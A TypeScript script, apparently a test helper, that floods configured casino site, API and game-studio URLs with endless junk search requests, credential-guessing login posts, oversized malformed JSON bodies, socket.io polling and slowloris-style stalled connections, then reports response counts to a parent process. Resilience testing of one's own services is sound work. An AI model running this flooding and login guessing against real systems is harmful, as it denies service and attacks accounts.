// What people do who want to be in the way of others, in a process of its own that runs until it is ended. Attackers bring
// machines of their own: here they take what the casino leaves of this one, so that it is the casino that holds up bets,
// and not the work of those who ask.
import { connect } from 'node:net'
import { constants, setPriority } from 'node:os'

export interface Targets {
  readonly siteUrl: string
  readonly apiUrl: string
  readonly studioUrl: string
}

/** So many of each at the same time. */
const WIDTH = { pages: 16, guesses: 8, nonsense: 8, stalled: 100, sockets: 50 }
const STALLED_AGAIN_MS = 250

const { siteUrl, apiUrl, studioUrl } = JSON.parse(process.argv[2] ?? '') as Targets
setPriority(constants.priority.PRIORITY_LOW)
const answers: Record<string, number> = {}
let count = 0

function note(what: string, status: number | string): void {
  const key = `${what} ${status}`
  answers[key] = (answers[key] ?? 0) + 1
}

async function again(what: string, deed: () => Promise<Response>): Promise<never> {
  for (;;) {
    count += 1
    try {
      const answer = await deed()
      await answer.arrayBuffer()
      note(what, answer.status)
    } catch {
      note(what, 'cut')
    }
  }
}

const post = (url: string, body: string) =>
  fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json' } })

const deeds: Readonly<Record<string, () => Promise<Response>>> = {
  pages: () => fetch(`${siteUrl}/casino?search=made-up-${count}&sort=none-${count}`),
  guesses: () =>
    post(
      `${siteUrl}/api/user/login`,
      JSON.stringify({ email: `nobody-${count}@example.com`, password: `Guess-${count}-x` }),
    ),
  nonsense: () =>
    post(
      count % 2 ? `${siteUrl}/api/user/set-limit` : `${studioUrl}/rgs/v1/play`,
      count % 3 ? '['.repeat(20_000) : `{"requestId":"${'x'.repeat(100_000)}`,
    ),
  sockets: () => fetch(`${apiUrl}/socket.io/?EIO=4&transport=polling&t=${count}`),
}

/** A body that is promised and never sent; whoever is cut off comes back. */
function stall(to: string): void {
  const { port, hostname } = new URL(to)
  const socket = connect(Number(port), hostname, () =>
    socket.write(
      `POST /api/user/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\n` +
        'content-type: application/json\r\ncontent-length: 1000\r\n\r\n{',
    ),
  )
  socket.on('error', () => {})
  socket.on('close', () => {
    note('stalled', 'cut')
    setTimeout(() => stall(to), STALLED_AGAIN_MS)
  })
}

for (const [what, deed] of Object.entries(deeds))
  for (let at = 0; at < WIDTH[what as keyof typeof WIDTH]; at += 1) void again(what, deed)
for (let at = 0; at < WIDTH.stalled; at += 1) stall(at % 2 ? siteUrl : studioUrl)

process.on('message', () => process.send?.(answers))
